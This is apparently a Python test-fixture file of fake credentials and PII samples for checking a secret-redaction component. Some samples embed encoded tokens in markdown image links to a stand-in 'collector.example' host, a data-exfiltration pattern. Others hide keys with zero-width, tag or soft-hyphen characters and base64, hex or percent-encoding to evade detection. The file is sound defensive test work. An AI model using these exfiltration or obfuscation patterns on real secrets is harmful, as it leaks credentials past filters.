"""Fake secrets for the secrets tests, assembled from pieces so no file holds a live-looking
token verbatim (keeps repository secret scanners quiet)."""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass
from urllib.parse import quote


def _b64url(data: dict[str, object]) -> str:
    raw = json.dumps(data, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


@dataclass(frozen=True)
class Sample:
    """`text` contains `secret`; `kind` is what must redact exactly `secret`."""

    id: str
    kind: str
    text: str
    secret: str


_ALNUM36 = "aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5"
_PEM_BODY = (
    "MIIEowIBAAKCAQEAvN3q8f0kq2Xj9Yt1wQm7Lr5sZp4bH6cV8eN2uD0gT3yK1iR5\n"
    "oP9aS7dF4gJ2hL6kM8nB0vC3xZ5qW1eR7tY9uI2oP4aS6dF8gH0jK3lZ5xC7vB9n\n"
    "M1qW3eR5tY7uI9oP2aS4dF6gH8jK0lZ3xC5vB7nM9qW1eR3tY5uI7oP9aS2dF4g==\n"
)
PEM = "-----BEGIN RSA PRIVATE KEY-----\n" + _PEM_BODY + "-----END RSA PRIVATE KEY-----"
OPENSSH = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\n"
    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
    "QyNTUxOQAAACDq8f0kq2Xj9Yt1wQm7Lr5sZp4bH6cV8eN2uD0gT3yK1gAAAJgbbbbbG22\n"
    "-----END OPENSSH PRIVATE KEY-----"
)
AWS = "AKIA" + "Z3MXQ7LKJHGFDSA1"
AWS_SESSION = "ASIA" + "Q4NB7XK2MPLRTW9E"
GITHUB = "ghp_" + _ALNUM36
GITHUB_PAT = "github_pat_" + "11ABCDEFG0" + "aB3dE5fG7hI9jK" + "_" + (_ALNUM36 * 2)[:59]
SLACK = "xoxb-" + "1234567890123-1234567890123-" + "aB3dE5fG7hI9jK1lM3nO5pQ7"
SLACK_HOOK = "hooks.slack.com/services/" + "T0DCUJB1Q/B0DD08H5G/" + "bJtrpFi1fO1JMCcwLx8uZyAg"
GOOGLE = "AIza" + "SyD3asb2pEZVqMkmL6M9N6nHZRR_znhrh07"
OPENAI_PROJ = "sk-" + "proj-" + "Xq7Lm2Np9Rt4Vw6Yz1Bc3Df5Gh8Jk0Mn2Pq4St6Uv8Wx1Za3"
OPENAI_LEGACY = "sk-" + "HxsVRClzUoqDGsfVeTJO" + "T3BlbkFJ" + "jgTxONt21NKqFtj6FLfH"
ANTHROPIC = "sk-ant-" + "api03-" + ("Zq8Xw3Lm7Np2Rt5Vy9Bc4Df6Gh1Jk0Ms_" * 3)[:93] + "AA"
STRIPE_LIVE = "sk_" + "live_" + "4eC39HqLyjWDarjtT1zdp7dc9Xq2"
STRIPE_TEST = "rk_" + "test_" + "51HvQ2kLmN8pQrStUvWxYz0aBcDe"
JWT = (
    _b64url({"alg": "HS256", "typ": "JWT"})
    + "."
    + _b64url({"sub": "1234567890", "name": "Jane Doe", "iat": 1516239022})
    + "."
    + "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
)
DB_PASSWORD = "S3cr3tP4ss"
URL_PASSWORD = "Zx9mQ2vL8kP4"
BEARER = "abcDEF123456ghiJKL7890mno"
BASIC = base64.b64encode(b"alice:Wonderland42!").decode()
PASSWORD = "Tr0ub4dor&3x"

CREDENTIALS: tuple[Sample, ...] = (
    Sample("pem-rsa", "private_key", PEM, PEM),
    Sample("pem-openssh", "private_key", OPENSSH, OPENSSH),
    Sample("aws", "aws_access_key", AWS, AWS),
    Sample("aws-asia", "aws_access_key", AWS_SESSION, AWS_SESSION),
    Sample("github-ghp", "github_token", GITHUB, GITHUB),
    Sample("github-pat", "github_token", GITHUB_PAT, GITHUB_PAT),
    Sample("slack", "slack_token", SLACK, SLACK),
    Sample("slack-webhook", "slack_webhook", "https://" + SLACK_HOOK, SLACK_HOOK),
    Sample("google", "google_api_key", GOOGLE, GOOGLE),
    Sample("openai-proj", "openai_api_key", OPENAI_PROJ, OPENAI_PROJ),
    Sample("openai-legacy", "openai_api_key", OPENAI_LEGACY, OPENAI_LEGACY),
    Sample("anthropic", "anthropic_api_key", ANTHROPIC, ANTHROPIC),
    Sample("stripe-live", "stripe_key", STRIPE_LIVE, STRIPE_LIVE),
    Sample("stripe-test", "stripe_key", STRIPE_TEST, STRIPE_TEST),
    Sample("jwt", "jwt", JWT, JWT),
    Sample(
        "db-uri",
        "database_uri",
        f"postgres://admin:{DB_PASSWORD}@db.internal:5432/app",
        DB_PASSWORD,
    ),
    Sample(
        "mongo-uri",
        "database_uri",
        f"mongodb+srv://svc:{DB_PASSWORD}@cluster0.mongodb.net/prod",
        DB_PASSWORD,
    ),
    Sample(
        "url-creds",
        "url_credentials",
        f"https://deploy:{URL_PASSWORD}@git.internal/repo.git",
        URL_PASSWORD,
    ),
    Sample("bearer", "bearer_token", f"Authorization: Bearer {BEARER}", BEARER),
    Sample("bearer-bare", "bearer_token", f"use Bearer {BEARER} for it", BEARER),
    Sample("basic-auth", "basic_auth", f"Authorization: Basic {BASIC}", BASIC),
    Sample("assign-env", "credential_assignment", f"PASSWORD={PASSWORD}", PASSWORD),
    Sample("assign-yaml", "credential_assignment", f"password: {PASSWORD}", PASSWORD),
    Sample("assign-json", "credential_assignment", f'"password": "{PASSWORD}"', PASSWORD),
    Sample("assign-code", "credential_assignment", f'password = "{PASSWORD}"', PASSWORD),
    Sample(
        "assign-apikey",
        "credential_assignment",
        "api_key='k3yVx81Lmn0Qz'",
        "k3yVx81Lmn0Qz",
    ),
    Sample(
        "assign-secret",
        "credential_assignment",
        "client_secret := `c1Sx9Lq0Wm3Rt`",
        "c1Sx9Lq0Wm3Rt",
    ),
    Sample(
        "assign-ends-sentence",
        "credential_assignment",
        "The job runs with aws_secret_access_key=xtn1DjaiZ9sHB7QziKzxgErUFUc3IdJE/3536+U9.",
        "xtn1DjaiZ9sHB7QziKzxgErUFUc3IdJE/3536+U9",
    ),
    Sample(
        "assign-aws-secret",
        "credential_assignment",
        "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ8Lm2Np4R",
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ8Lm2Np4R",
    ),
    Sample(
        "assign-query",
        "credential_assignment",
        "GET /cb?access_token=Qm9vTk3nZx81Lp&x=1",
        "Qm9vTk3nZx81Lp",
    ),
)

_AWS_B64 = base64.b64encode(f"aws_access_key_id: {AWS}".encode()).decode()
_GITHUB_URLSAFE = base64.urlsafe_b64encode(f"gh auth: {GITHUB}".encode()).decode().rstrip("=")
_DB_URI_HEX = f"postgres://admin:{DB_PASSWORD}@db.internal:5432/app".encode().hex()
_PEM_B64 = base64.b64encode(PEM.encode()).decode()

ENCODED: tuple[Sample, ...] = (
    Sample("encoded-aws-base64", "encoded_credential", f"run it with {_AWS_B64} now", _AWS_B64),
    Sample(
        "encoded-github-in-link",
        "encoded_credential",
        f"![pixel](https://collector.example/p.png?d={_GITHUB_URLSAFE})",
        _GITHUB_URLSAFE,
    ),
    Sample("encoded-db-uri-hex", "encoded_credential", f"DSN (hex) {_DB_URI_HEX}", _DB_URI_HEX),
    Sample("encoded-pem-k8s", "encoded_credential", f"data:\n  tls.key: {_PEM_B64}", _PEM_B64),
)
"""Credentials base64- or hex-encoded: the whole encoded run is the secret."""

ZERO_WIDTH_SPACE = "\u200b"
_AWS_LACED = ZERO_WIDTH_SPACE.join(AWS)
_GITHUB_SPACED = " ".join(GITHUB)
_OPENAI_TAGS = "".join(chr(0xE0000 + ord(char)) for char in OPENAI_PROJ)
_STRIPE_SOFT_HYPHENS = STRIPE_LIVE[:12] + "\u00ad" + STRIPE_LIVE[12:]

SPELLED: tuple[Sample, ...] = (
    Sample("spelled-aws-zero-width", "spelled_credential", f"key: {_AWS_LACED} ok", _AWS_LACED),
    Sample(
        "spelled-github-spaced", "spelled_credential", f"token {_GITHUB_SPACED}.", _GITHUB_SPACED
    ),
    Sample("spelled-openai-tags", "spelled_credential", f"note {_OPENAI_TAGS} end", _OPENAI_TAGS),
    Sample(
        "spelled-stripe-soft-hyphen",
        "spelled_credential",
        f"stripe {_STRIPE_SOFT_HYPHENS}",
        _STRIPE_SOFT_HYPHENS,
    ),
    Sample(
        "spelled-key-name",
        "spelled_credential",
        f"p a s s w o r d = {PASSWORD}",
        PASSWORD,
    ),
    Sample(
        # A value with spaces of its own: only the key read again says to hold it in a stream.
        "spelled-key-name-passphrase",
        "spelled_credential",
        'p a s s w o r d = "correct horse battery staple"',
        "correct horse battery staple",
    ),
    Sample(
        "spelled-key-name-zero-width",
        "spelled_credential",
        f"pass{ZERO_WIDTH_SPACE}word: {PASSWORD}",
        PASSWORD,
    ),
)
"""Credentials spelled out with invisible characters, spaces or tag characters between or
for their characters: the credential as written, separators included, is the secret."""

_DB_URI_URL = quote(f"postgres://admin:{DB_PASSWORD}@db.internal:5432/app", safe="")
_ASSIGNMENT_URL = quote(f"password={PASSWORD}", safe="")
_BEARER_URL = quote(f"Authorization: Bearer {BEARER}")

URL_ENCODED: tuple[Sample, ...] = (
    Sample(
        "url-encoded-db-uri-in-link",
        "url_encoded_credential",
        f"![x](https://collector.example/p.png?d={_DB_URI_URL})",
        DB_PASSWORD,
    ),
    Sample(
        "url-encoded-assignment",
        "url_encoded_credential",
        f"GET /c?env={_ASSIGNMENT_URL}",
        quote(PASSWORD, safe=""),
    ),
    Sample("url-encoded-bearer", "url_encoded_credential", f"h={_BEARER_URL}", BEARER),
)
"""Credentials whose key name or separators are percent-encoded: the credential as written,
escapes included, is the secret."""

PII: tuple[Sample, ...] = (
    Sample("ssn", "ssn", "123-45-6789", "123-45-6789"),
    Sample("ssn-context", "ssn", "SSN: 078 05 1120", "078 05 1120"),
    Sample("card-visa-spaces", "credit_card", "4111 1111 1111 1111", "4111 1111 1111 1111"),
    Sample("card-mc-dashes", "credit_card", "5500-0000-0000-0004", "5500-0000-0000-0004"),
    Sample("card-amex", "credit_card", "378282246310005", "378282246310005"),
    Sample("email", "email", "jane.doe@example.org", "jane.doe@example.org"),
    Sample("phone-us", "phone", "+1 (415) 555-0132", "+1 (415) 555-0132"),
    Sample("phone-us-dashes", "phone", "415-555-0132", "415-555-0132"),
    Sample("phone-uk", "phone", "+44 20 7946 0958", "+44 20 7946 0958"),
    Sample("phone-fr", "phone", "call 06 12 34 56 78", "06 12 34 56 78"),
    Sample("iban-spaces", "iban", "GB82 WEST 1234 5698 7654 32", "GB82 WEST 1234 5698 7654 32"),
    Sample("iban-compact", "iban", "DE89370400440532013000", "DE89370400440532013000"),
)

ALL = CREDENTIALS + ENCODED + SPELLED + URL_ENCODED + PII

PROSE_BEFORE = "Sure! Here is what you asked for, see below:\n"
PROSE_AFTER = "\nLet me know if anything else is needed. Cheers."
